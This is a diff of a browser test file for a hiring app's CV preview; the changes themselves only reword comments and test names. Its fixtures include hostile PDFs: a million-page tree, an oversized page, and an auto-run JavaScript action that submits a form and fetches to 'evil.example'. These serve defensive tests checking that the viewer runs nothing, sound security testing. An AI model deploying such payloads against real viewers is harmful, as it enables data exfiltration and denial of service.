@@ -8,7 +8,7 @@ import { sendCv, watch } from './support/cv-preview.js';
 
 const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
 
-/** A PDF of a million pages that are all the same, in a tree of two levels. */
+/** A PDF of a million identical pages, in a tree of two levels. */
 const MILLION = pdfOf([
   '<< /Type /Catalog /Pages 2 0 R >>',
   `<< /Type /Pages /Kids [${'6 0 R '.repeat(1000)}] /Count 1000000 >>`,
@@ -18,7 +18,7 @@ const MILLION = pdfOf([
   `<< /Type /Pages /Parent 2 0 R /Kids [${'3 0 R '.repeat(1000)}] /Count 1000 >>`,
 ]);
 
-/** A page as large as a number can be. */
+/** A page with the maximum numeric size. */
 const GIANT = pdfOf([
   '<< /Type /Catalog /Pages 2 0 R >>',
   '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
@@ -27,7 +27,7 @@ const GIANT = pdfOf([
 ]);
 
 const SCRIPT = String.raw`<< /S /JavaScript /JS (app.alert\("ran"\); this.submitForm\("https://evil.example/"\); fetch\("https://evil.example/"\)) >>`;
-/** PDFs that want something done: by scripts, links that open by themselves, other programs and forms. */
+/** PDFs that trigger actions: by scripts, links that open automatically, other programs and forms. */
 const ACTIVE: Record<string, Buffer> = {
   script: pdfWith('Calm', `/OpenAction ${SCRIPT} `),
   events: pdfWith(
@@ -42,7 +42,7 @@ const ACTIVE: Record<string, Buffer> = {
   ),
 };
 
-/** Opens a PDF in a viewer of its own, and returns what the viewer says at last. */
+/** Opens a PDF in a separate viewer, and returns the viewer's final message. */
 const openIn = (page: Page, content: Buffer): Promise<string> =>
   page.evaluate(
     (text) =>
@@ -75,10 +75,10 @@ const openIn = (page: Page, content: Buffer): Promise<string> =>
     content.toString('base64'),
   );
 
-// One test sends this request from within the frame, which must not succeed.
+// A test sends this request from within the frame, and it must fail.
 test.use({ meant: /(Connecting to|Fetch API cannot load|connect-src) .*\/config\.json/ });
 
-test('files that cannot be shown say why', async ({ page }) => {
+test('files that cannot be shown give the reason', async ({ page }) => {
   const { admin } = await newCompany();
   const role = await newOpenRole(admin.email, { title: 'Baker' });
   const [broken, odt] = await addCandidates(admin.email, role, ['Ana Berg', 'Ben Cole']);
@@ -93,7 +93,7 @@ test('files that cannot be shown say why', async ({ page }) => {
   expect(odt).toBeTruthy();
 });
 
-test('a PDF runs nothing and asks for nothing, and a million pages are shown as far as it makes sense', async ({
+test('a PDF runs nothing and requests nothing, and a limited number of a million pages is shown', async ({
   page,
 }) => {
   test.setTimeout(300_000);
@@ -109,7 +109,7 @@ test('a PDF runs nothing and asks for nothing, and a million pages are shown as 
   expect(seen).toEqual([]);
 });
 
-test('damaged PDFs end in a state that is known', async ({ page }) => {
+test('damaged PDFs end in a defined state', async ({ page }) => {
   test.setTimeout(300_000);
   const { admin } = await newCompany();
   await signIn(page, admin.email, '/page-settings');
